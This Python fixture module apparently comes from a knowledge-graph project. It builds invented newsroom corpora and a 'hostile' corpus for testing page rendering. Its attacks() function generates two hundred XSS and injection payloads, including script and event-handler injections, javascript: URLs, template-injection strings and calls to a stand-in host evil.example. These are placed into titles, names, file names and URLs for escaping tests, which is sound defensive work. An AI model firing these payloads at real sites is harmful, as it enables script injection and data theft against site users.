"""Invented newsrooms of any size, and one that prints nothing but attacks: what the page and the pictures are tried on."""

from __future__ import annotations

from kg.model import (
    Document,
    Entity,
    Evidence,
    Extraction,
    Mention,
    Passage,
    Referent,
    Snapshot,
    Span,
    Statement,
    referent_key,
)

BASE = "https://example.org/kg/id/"
GIVEN = [
    "Ada",
    "Bela",
    "Cleo",
    "Dov",
    "Edda",
    "Finn",
    "Gita",
    "Hal",
    "Ines",
    "Jory",
    "Kit",
    "Lena",
    "Mato",
    "Nell",
    "Orla",
    "Pia",
    "Quin",
    "Rafe",
    "Sena",
    "Tove",
]
FAMILY = [
    "Quill",
    "Lisle",
    "Harrow",
    "Penn",
    "Varga",
    "Stoke",
    "Mirren",
    "Osei",
    "Calder",
    "Finch",
    "Rowan",
    "Tansey",
    "Blythe",
    "Corin",
    "Dray",
    "Ember",
]
TOWNS = [
    "Oxmoor",
    "Larkfield",
    "Brackenby",
    "Thornwick",
    "Aldermere",
    "Castlebay",
    "Netherford",
    "Winsham",
    "Pellbrook",
    "Saltmarsh",
]
KINDS = ("Person", "Person", "Person", "Hospital", "TradeUnion", "Place", "Policy", "Group", "Strike", "Organisation")


def label(number: int) -> str:
    """Return the name of the entity with that number."""
    town = TOWNS[number // 10 % len(TOWNS)]
    return {
        "Person": f"{GIVEN[number % 20]} {FAMILY[number // 7 % 16]} {number}", "Hospital": f"{town} Infirmary {number}",
        "TradeUnion": f"{town} Bakers Union {number}", "Place": f"{town} {number}", "Policy": f"night rota {number}",
        "Group": f"porters of {town} {number}", "Strike": f"strike at {town} {number}",
        "Organisation": f"{town} Ferries {number}",
    }[KINDS[number % 10]]  # fmt: skip


def corpus(nodes: int) -> Snapshot:
    """Return a graph of that many entities and 1.5 times as many statements, the same one whenever it is asked for."""
    iris = [f"{BASE}e{number}" for number in range(nodes)]
    labels = [label(number) for number in range(nodes)]
    of_kind: dict[str, list[int]] = {}
    for number in range(nodes):
        of_kind.setdefault(KINDS[number % 10], []).append(number)
    sentences: dict[int, list[tuple[str, int, int, str]]] = {}
    for count in range(nodes * 3 // 2):
        person = of_kind["Person"][(count * 7919 + count // 3) % len(of_kind["Person"])]
        kind, predicate, target = (
            ("Position", "opposes", "Policy"), ("RoleHolding", "role", "Hospital"),
            ("PicketPresence", "pickets_at", "Hospital"), ("Position", "supports", "Strike"),
            ("Relation", "part_of", "TradeUnion"), ("Participation", "takes_part_in", "Strike"),
            ("Relation", "located_in", "Place"),
        )[count % 7]  # fmt: skip
        if kind == "Relation":
            source = of_kind["Hospital" if predicate == "located_in" else "Organisation"]
            person = source[(count * 31) % len(source)]
        others = of_kind[target]
        # A few targets are spoken of by many, most by hardly anybody, as in the news.
        chosen = others[min(len(others) - 1, int(len(others) * ((count * 2654435761 % 10000) / 10000) ** 3))]
        if chosen != person:
            sentences.setdefault(count // 12, []).append((kind, person, chosen, predicate))
    extractions: list[Extraction] = []
    statements: dict[str, Statement] = {}
    mentioned: dict[int, set[str]] = {}
    for number, said in sorted(sentences.items()):
        name = f"courier/{number:05}.txt"
        text = ""
        referents: dict[int, list[Mention]] = {}
        for kind, subject, object_, predicate in said:
            start = len(text)
            text += f"{labels[subject]} {predicate.replace('_', ' ')} {labels[object_]}, it was said in town. "
            span = Span(document=name, start=start, end=len(text) - 1)
            proof = Evidence(span=span, exact=text[start : len(text) - 1], rule="invented", confidence=0.8)
            for who in (subject, object_):
                at = text.index(labels[who], start)
                mention = Mention(
                    span=Span(document=name, start=at, end=at + len(labels[who])), text=labels[who], form="name"
                )
                referents.setdefault(who, []).append(mention)
                mentioned.setdefault(who, set()).add(referent_key(name, f"r{who}"))
            made = Statement(
                kind=kind, subject=iris[subject], predicate=predicate, object=iris[object_],  # type: ignore[arg-type]
                qualifiers=(("tenure", "current"), ("title", "porter")) if kind == "RoleHolding" else (),
                evidence=(proof,),
            )  # fmt: skip
            statements.setdefault(made.id, made)
        extractions.append(
            Extraction(
                document=Document(identifier=name, text=text, title=f"Courier, number {number}"),
                passages=(Passage(span=Span(document=name, start=0, end=len(text)), layout="body"),),
                referents=tuple(
                    Referent(
                        id=f"r{who}", kind=KINDS[who % 10], label=labels[who], names=(labels[who],), mentions=tuple(m)
                    )
                    for who, m in sorted(referents.items())
                ),
            )
        )
    entities = [
        Entity(iri=iris[n], kind=KINDS[n % 10], label=labels[n], referents=tuple(sorted(mentioned.get(n, ()))))
        for n in range(nodes)
    ]
    return Snapshot(
        extractions=tuple(extractions),
        entities=tuple(sorted(entities, key=lambda e: e.iri)),
        statements=tuple(statements[key] for key in sorted(statements)),
        base=BASE,
    )


def attacks() -> list[str]:
    """Return two hundred strings that run, fetch or break out wherever a page takes text for anything but text."""
    run = ("alert(1)", "confirm(2)", "prompt(3)", "parent.alert(4)", "fetch('https://evil.example/a')")
    shapes = (
        "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>",
        "<svg><script>{}</script></svg>", "<body onload={}>", "<iframe src=javascript:{}>", "javascript:{}",
        "<a href=javascript:{}>x</a>", "'-{}-'", '"-{}-"', "`${{{}}}`", "<!--<script>{}", "--><script>{}</script>",
        "]]><script>{}</script>", "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<math><mtext></p><img src onerror={}>",
        "<style>@import 'https://evil.example/s.css'</style>{}", "<link rel=stylesheet href=https://evil.example/c.css>{}",
        "<img src=https://evil.example/p.png>{}", "<video><source onerror={}>", "<object data=javascript:{}>",
        "<form action=https://evil.example><button autofocus>{}", "<base href=https://evil.example/>{}",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>{}", "<x style=background:url(https://evil.example/b)>{}",
        "</textarea><script>{}</script>", "</title><script>{}</script>", "</style><script>{}</script>",
        "</noscript><script>{}</script>", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;",
        "&#60;img src=x onerror={}&#62;", "\u2028{}//", "\u202e<img src=x onerror={}>", "{{{{constructor.constructor('{}')()}}}}",
        "<title href=x>{}</title>", "<template><script>{}</script></template>", "\x00<scr\x00ipt>{}</script>",
    )  # fmt: skip
    return [shape.format(code) for shape in shapes for code in run]


def hostile() -> Snapshot:
    """Return a graph whose titles, names, sentences, file names, rules and roles are attacks, one of each kind for each."""
    extractions, entities, statements = [], [], []
    for number, attack in enumerate(attacks()):
        name = f"{attack.replace(chr(0), '')} {number}.txt"
        words = f"{attack} said so"
        text = f"\U0001faa7 {words}. And {attack} again."
        span = Span(document=name, start=2, end=2 + len(words))
        mention = Mention(span=Span(document=name, start=2, end=2 + len(attack)), text=attack, form="name")
        one, two = f"{BASE}a{number}", f"{BASE}b{number}"
        referents = (
            Referent(id="one", kind="Person", label=attack, names=(attack,), mentions=(mention,)),
            Referent(id="two", kind="Policy", label=f"{attack}{number}", names=(attack,), mentions=(mention,)),
        )
        entities += [
            Entity(
                iri=one,
                kind="Person",
                label=attack,
                other_names=(attack + "!",),
                referents=(referent_key(name, "one"),),
            ),
            Entity(iri=two, kind="Policy", label=f"{attack}{number}", referents=(referent_key(name, "two"),)),
        ]
        proof = Evidence(
            span=span, exact=words, rule=attack, confidence=0.5, steps=(attack,), attributed_to=one, status="attributed"
        )
        statements += [
            Statement(kind="Position", subject=one, predicate="opposes", object=two, evidence=(proof,)),
            Statement(
                kind="RoleHolding", subject=one, predicate="role", qualifiers=(("title", attack),), evidence=(proof,)
            ),
            Statement(
                kind="Quotation", subject=one, predicate="said",
                qualifiers=(("quotation_kind", "direct"), ("text", attack)), evidence=(proof,),
            ),
        ]  # fmt: skip
        extractions.append(
            Extraction(
                document=Document(
                    identifier=name,
                    text=text,
                    title=attack,
                    publisher=attack,
                    authors=(attack,),
                    url="javascript:" + attack,
                ),
                passages=(Passage(span=Span(document=name, start=0, end=len(text)), layout="headline"),),
                referents=referents,
            )
        )
    return Snapshot(
        extractions=tuple(sorted(extractions, key=lambda e: e.document.identifier)),
        entities=tuple(sorted(entities, key=lambda e: e.iri)),
        statements=tuple(sorted(statements, key=lambda s: s.id)),
        base=BASE,
    )
